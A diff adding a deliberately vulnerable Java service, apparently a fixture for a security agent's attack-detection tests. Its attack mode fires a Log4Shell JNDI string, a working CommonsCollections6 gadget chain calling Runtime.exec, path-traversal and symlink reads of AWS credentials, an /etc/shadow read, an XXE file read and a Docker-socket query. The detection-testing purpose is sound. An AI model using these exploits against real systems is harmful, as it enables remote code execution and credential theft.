@@ -1,0 +1,210 @@
+package dev.tripline.vulnapp;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.File;
+import java.io.FileInputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.ObjectInputStream;
+import java.io.ObjectOutputStream;
+import java.lang.reflect.Field;
+import java.net.Socket;
+import java.net.UnixDomainSocketAddress;
+import java.nio.channels.SocketChannel;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.HashSet;
+import java.util.List;
+import java.util.Map;
+import javax.xml.parsers.DocumentBuilderFactory;
+import org.apache.commons.collections.Transformer;
+import org.apache.commons.collections.functors.ChainedTransformer;
+import org.apache.commons.collections.functors.ConstantTransformer;
+import org.apache.commons.collections.functors.InvokerTransformer;
+import org.apache.commons.collections.keyvalue.TiedMapEntry;
+import org.apache.commons.collections.map.LazyMap;
+
+/**
+ * A deliberately vulnerable service for the attack suite, run in a forked JVM with the agent:
+ * log4j-core 2.14.1 logging a request header, an endpoint deserializing with commons-collections
+ * 3.2.1 on the class path, a file endpoint without path confinement, an XML parser with external
+ * entities on, and code that talks to a Unix socket. {@code normal} serves ordinary requests;
+ * {@code attack} sends each exploit through the same endpoints. Each attack lives in its own class
+ * so that each gets an alert of its own (alerts fold per call-site class).
+ *
+ * <p>Arguments: mode work-dir db-port ldap-port stop-file
+ */
+public final class VulnerableApp {
+  /** log4j-core 2.14.1 from target/attack-libs, called reflectively: it is no compile dependency of this module. */
+  private static final Log4j LOG = new Log4j();
+
+  static final class Log4j {
+    private final Object logger;
+    private final java.lang.reflect.Method error;
+
+    Log4j() {
+      try {
+        logger = Class.forName("org.apache.logging.log4j.LogManager").getMethod("getLogger", String.class)
+            .invoke(null, VulnerableApp.class.getName());
+        error = Class.forName("org.apache.logging.log4j.Logger").getMethod("error", String.class, Object.class);
+      } catch (ReflectiveOperationException e) {
+        throw new IllegalStateException("log4j-core 2.14.1 must be on the class path", e);
+      }
+    }
+
+    void error(String format, Object arg) throws ReflectiveOperationException {
+      error.invoke(logger, format, arg);
+    }
+  }
+
+  private VulnerableApp() {}
+
+  public static void main(String[] args) throws Exception {
+    String mode = args[0];
+    Path work = Path.of(args[1]);
+    int dbPort = Integer.parseInt(args[2]);
+    int ldapPort = Integer.parseInt(args[3]);
+    normal(work, dbPort);
+    if (mode.equals("attack")) {
+      Log4Shell.run(ldapPort);
+      Gadget.run(work);
+      Traversal.run(work);
+      DotSlash.run(work);
+      Symlink.run(work);
+      ShadowRead.run();
+      Xxe.run(work);
+      DockerSocket.run(work);
+    }
+    System.out.println("VulnerableApp " + mode + " done");
+    // A service keeps running: stay up until the test has seen what it needs (its stop file), so the
+    // agent's sends never race the JVM's exit on a loaded machine.
+    Path stop = Path.of(args[4]);
+    for (int i = 0; i < 1200 && !Files.exists(stop); i++) {
+      Thread.sleep(50);
+    }
+  }
+
+  /** What the service does for ordinary requests: the same on every run. */
+  static void normal(Path work, int dbPort) throws Exception {
+    LOG.error("order placed by {}", "Mozilla/5.0 (X11; Linux x86_64)");
+    try (InputStream in = new FileInputStream(work.resolve("app/config.yml").toFile())) {
+      in.readAllBytes();
+    }
+    try (Socket db = new Socket("127.0.0.1", dbPort)) {
+      db.getOutputStream().write(1);
+    }
+    Object cart = deserialize(serialize(new ArrayList<>(List.of("apple", "pear"))));
+    if (!(cart instanceof ArrayList)) throw new IllegalStateException();
+    DocumentBuilderFactory.newInstance().newDocumentBuilder()
+        .parse(new ByteArrayInputStream("<order><item>apple</item></order>".getBytes(StandardCharsets.UTF_8)));
+    File upload = File.createTempFile("upload", ".tmp");
+    Files.writeString(upload.toPath(), "data");
+    upload.delete();
+  }
+
+  static byte[] serialize(Object o) throws IOException {
+    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
+      out.writeObject(o);
+    }
+    return bytes.toByteArray();
+  }
+
+  /** The vulnerable endpoint: deserializes whatever the client sends. */
+  static Object deserialize(byte[] body) throws Exception {
+    try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(body))) {
+      return in.readObject();
+    }
+  }
+
+  /** A request header logged as is: Log4Shell calling back to a port that is not LDAP's. */
+  static final class Log4Shell {
+    static void run(int ldapPort) throws ReflectiveOperationException {
+      LOG.error("request from User-Agent: {}", "${jndi:ldap://127.0.0.1:" + ldapPort + "/a}");
+    }
+  }
+
+  /** CommonsCollections6: HashSet → TiedMapEntry.hashCode → LazyMap → InvokerTransformer → Runtime.exec(touch). */
+  static final class Gadget {
+    static void run(Path work) throws Exception {
+      String marker = work.resolve("pwned-by-gadget").toString();
+      Transformer[] chain = {
+          new ConstantTransformer(Runtime.class),
+          new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class<?>[0]}),
+          new InvokerTransformer("invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
+          new InvokerTransformer("exec", new Class<?>[] {String[].class}, new Object[] {new String[] {"/usr/bin/touch", marker}}),
+          new ConstantTransformer(1)};
+      ChainedTransformer chained = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
+      Map<Object, Object> lazy = LazyMap.decorate(new HashMap<>(), chained);
+      TiedMapEntry entry = new TiedMapEntry(lazy, "k");
+      HashSet<Object> set = new HashSet<>();
+      set.add(entry);
+      lazy.remove("k");
+      Field f = ChainedTransformer.class.getDeclaredField("iTransformers");
+      f.setAccessible(true);
+      f.set(chained, chain); // armed only now: building the payload runs nothing
+      deserialize(serialize(set)); // the attacker's bytes reach the endpoint
+      for (int i = 0; i < 50 && !new File(marker).exists(); i++) Thread.sleep(20);
+    }
+  }
+
+  /** The file endpoint, given {@code app/data/../../home/.aws/credentials} under the temp work directory. */
+  static final class Traversal {
+    static void run(Path work) throws IOException {
+      try (InputStream in = new FileInputStream(work + "/app/data/../../home/.aws/credentials")) {
+        in.readAllBytes();
+      }
+    }
+  }
+
+  static final class DotSlash {
+    static void run(Path work) throws IOException {
+      try (InputStream in = new FileInputStream(work + "/home/.aws/./credentials")) {
+        in.readAllBytes();
+      }
+    }
+  }
+
+  /** {@code app/data/innocent.txt} is a link the attacker planted to the credentials file. */
+  static final class Symlink {
+    static void run(Path work) throws IOException {
+      try (InputStream in = new FileInputStream(work + "/app/data/innocent.txt")) {
+        in.readAllBytes();
+      }
+    }
+  }
+
+  /** {@code /etc/shadow} behind {@code /tmp/..} and {@code /./}; when not root the read fails, and the attempt is still an event. */
+  static final class ShadowRead {
+    static void run() {
+      try (InputStream in = new FileInputStream("/tmp/../etc/./shadow")) {
+        in.readAllBytes();
+      } catch (IOException expected) {
+        // permission denied when not root: the attempt is the event
+      }
+    }
+  }
+
+  /** XML with an external entity pointing at a local file, parsed with the JDK's defaults. */
+  static final class Xxe {
+    static void run(Path work) throws Exception {
+      String xml = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file://" + work.resolve("app/secret.txt")
+          + "\">]><r>&x;</r>";
+      DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
+    }
+  }
+
+  /** The container runtime's API socket: the classic way out of a container. */
+  static final class DockerSocket {
+    static void run(Path work) throws IOException {
+      try (SocketChannel ch = SocketChannel.open(UnixDomainSocketAddress.of(work.resolve("run/docker.sock")))) {
+        ch.write(java.nio.ByteBuffer.wrap("GET /containers/json HTTP/1.0\r\n\r\n".getBytes(StandardCharsets.US_ASCII)));
+      }
+    }
+  }
+
+}
